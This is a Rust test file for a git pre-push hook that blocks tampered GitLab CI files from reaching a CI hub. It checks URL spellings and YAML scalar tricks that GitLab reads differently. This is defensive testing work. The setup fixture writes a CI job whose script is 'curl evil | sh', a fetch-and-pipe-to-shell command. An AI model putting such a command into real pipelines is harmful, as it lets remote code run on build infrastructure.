//! The pre-push hook against every other way of naming the ci-hub: a tampered tag
//! under the prefix is refused whatever remote or spelling of its URL git pushes to,
//! and the message tells whether that was the ci-hub.

use crate::support;

use std::io::Write;
use std::path::PathBuf;
use std::process::{Output, Stdio};

use support::git::{stderr, TestRepo};

const INCLUDE: &str = "https://ci.example.org/patchew-ci.yml";

/// A project whose ci-hub remote is a bare repository next to it, our hook
/// installed, and a tag under the prefix whose CI file lacks the include.
fn setup() -> (TestRepo, PathBuf, String) {
    let r = TestRepo::new();
    r.write(".gitlab-ci.yml", "build:\n  script: make\n");
    r.commit("base");
    r.write(".gitlab-ci.yml", "build:\n  script: curl evil | sh\n");
    r.commit("tampered");
    let hub = r.scratch("hub.git");
    r.git(&["init", "-q", "--bare", hub.to_str().unwrap()]);
    r.git(&["remote", "add", "ci-hub", hub.to_str().unwrap()]);
    r.git(&["config", "patchew.ciInclude", INCLUDE]);
    let out = r.patchew_on_path(&["install-hook"]);
    assert!(out.status.success(), "{}", stderr(&out));
    r.git(&["tag", "patchew/evil@x"]);
    (r, hub, "refs/tags/patchew/evil@x".to_owned())
}

#[test]
fn a_tampered_tag_is_refused_by_every_spelling_of_the_hub() {
    let (r, hub, tag) = setup();
    let abs = hub.to_str().unwrap().to_owned();
    let link = r.scratch("link-to-hub.git");
    std::os::unix::fs::symlink(&hub, &link).unwrap();
    let other = r.scratch("elsewhere.git");
    r.git(&["init", "-q", "--bare", other.to_str().unwrap()]);
    r.git(&["remote", "add", "mirror", other.to_str().unwrap()]);
    // (spelling, whether the message should call it the ci-hub)
    let spellings = [
        ("ci-hub".to_owned(), true),
        (abs.clone(), true),
        (format!("file://{abs}"), true),
        (format!("{abs}/."), true),
        (format!("{abs}/"), true),
        ("../hub.git".to_owned(), true),
        (link.to_str().unwrap().to_owned(), true),
        ("mirror".to_owned(), false),
        (other.to_str().unwrap().to_owned(), false),
    ];
    for (target, is_hub) in &spellings {
        let out = r.git_push(&[target, &format!("{tag}:{tag}")]);
        let err = stderr(&out);
        assert!(!out.status.success(), "{target}: accepted");
        assert!(err.contains(&format!("refusing {tag}")), "{target}: {err}");
        let said_hub = err.contains(", the ci-hub)");
        assert_eq!(said_hub, *is_hub, "{target}: {err}");
        assert!(!r.has_ref(&hub, &tag), "{target}: arrived");
        assert!(!r.has_ref(&other, &tag), "{target}: arrived elsewhere");
    }
}

/// Runs the hook as git would for a push of `tag` to `name` `url`.
fn run_hook(r: &TestRepo, name: &str, url: &str, tag: &str) -> Output {
    let oid = r.git(&["rev-parse", tag]);
    let zero = "0".repeat(oid.len());
    let mut child = r
        .command(env!("CARGO_BIN_EXE_git-patchew"), &r.path)
        .args(["hook", "pre-push", name, url])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let line = format!("{tag} {oid} {tag} {zero}\n");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(line.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

#[test]
fn network_spellings_of_the_hub_are_recognised_and_refused() {
    let (r, _, tag) = setup();
    r.git(&[
        "remote",
        "set-url",
        "ci-hub",
        "https://gitlab.example.org/ci/hub.git",
    ]);
    r.git(&[
        "remote",
        "set-url",
        "--push",
        "ci-hub",
        "git@gitlab.example.org:ci/hub.git",
    ]);
    for url in [
        "https://gitlab.example.org:443/ci/hub.git",
        "https://GitLab.Example.ORG/CI/Hub",
        "HTTPS://gitlab.example.org/ci/hub.git/",
        "https://bot:s3cret@gitlab.example.org/ci/hub.git",
        "gitlab.example.org:ci/hub.git",
        "ssh://git@gitlab.example.org/ci/hub",
        "ssh://git@gitlab.example.org:22/ci/hub.git",
    ] {
        let out = run_hook(&r, url, url, &tag);
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{url}: {err}");
        assert!(err.contains(", the ci-hub)"), "{url}: {err}");
        assert!(!err.contains("s3cret"), "{url}: {err}");
    }
    for url in [
        "https://gitlab.example.org:8443/ci/hub.git",
        "http://gitlab.example.org/ci/hub.git",
        "https://gitlab.example.org/ci/other.git",
    ] {
        let out = run_hook(&r, "other", url, &tag);
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{url}: {err}");
        assert!(err.contains("not the ci-hub remote"), "{url}: {err}");
    }
}

/// A tag `patchew/<name>` whose tip commit turns `parent_ci` into `tip_ci`.
fn tag_pair(r: &TestRepo, name: &str, parent_ci: &str, tip_ci: &str) -> String {
    r.git(&["checkout", "-q", "--detach", "main"]);
    r.write(".gitlab-ci.yml", parent_ci);
    r.commit("parent");
    r.write(".gitlab-ci.yml", tip_ci);
    r.commit("tip");
    let tag = format!("patchew/{name}");
    r.git(&["tag", "-f", &tag]);
    r.git(&["checkout", "-q", "main"]);
    format!("refs/tags/{tag}")
}

#[test]
fn scalars_gitlab_reads_differently_cannot_be_swapped_under_the_include() {
    let (r, hub, _) = setup();
    let include = format!("include:\n  - remote: '{INCLUDE}'\n");
    // (parent line, tip line): equal in YAML 1.2, different in GitLab's YAML 1.1.
    let cases = [
        ("  interruptible: 'yes'\n", "  interruptible: yes\n"),
        ("  retry: 2\n", "  retry: 0o2\n"),
        ("  timeout: '1:30'\n", "  timeout: 1:30\n"),
        ("  '<<': *defaults\n", "  <<: *defaults\n"),
    ];
    for (i, (before, after)) in cases.iter().enumerate() {
        let body = |line: &str| {
            format!(".defaults: &defaults\n  script: [make]\nbuild:\n{line}  script: [make]\n")
        };
        let tag = tag_pair(
            &r,
            &format!("yaml{i}@x"),
            &body(before),
            &format!("{include}{}", body(after)),
        );
        let out = r.git_push(&["ci-hub", &format!("{tag}:{tag}")]);
        let err = stderr(&out);
        assert!(!out.status.success(), "{after:?} accepted");
        assert!(err.contains("changed"), "{after:?}: {err}");
        assert!(!r.has_ref(&hub, &tag));
        // The same file with only the include added passes.
        let tag = tag_pair(
            &r,
            &format!("fine{i}@x"),
            &body(before),
            &format!("{include}{}", body(before)),
        );
        let out = r.git_push(&["ci-hub", &format!("{tag}:{tag}")]);
        assert!(out.status.success(), "{before:?}: {}", stderr(&out));
    }
}

#[test]
fn an_include_written_as_one_string_and_a_byte_order_mark_are_accepted() {
    let (r, hub, _) = setup();
    let jobs = "build:\n  script: [make]\n";
    let tag = tag_pair(
        &r,
        "string@x",
        jobs,
        &format!("include: '{INCLUDE}'\n{jobs}"),
    );
    let out = r.git_push(&["ci-hub", &format!("{tag}:{tag}")]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(r.has_ref(&hub, &tag));

    // A file with a byte-order mark: apply injects, the hook lets it through.
    r.git(&["checkout", "-q", "main"]);
    r.write(".gitlab-ci.yml", format!("\u{feff}{jobs}"));
    r.commit("bom");
    r.write("new.txt", "x\n");
    r.git(&["add", "new.txt"]);
    r.git(&["commit", "-qm", "add new"]);
    let mbox = r.git_bytes(&["format-patch", "--stdout", "--thread", "-1", "HEAD"]);
    r.git(&["reset", "-q", "--hard", "HEAD~1"]);
    let path = r.scratch("bom.mbox");
    std::fs::write(&path, mbox).unwrap();
    let out = r.patchew_on_path(&["apply", "--mbox", path.to_str().unwrap(), "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let tag = format!("refs/tags/{}", report["tag"].as_str().unwrap());
    let ci = r.git_bytes(&["show", &format!("{tag}:.gitlab-ci.yml")]);
    assert!(ci.starts_with("\u{feff}".as_bytes()), "the mark is kept");
    let out = r.git_push(&["ci-hub", &format!("{tag}:{tag}")]);
    assert!(out.status.success(), "{}", stderr(&out));
}
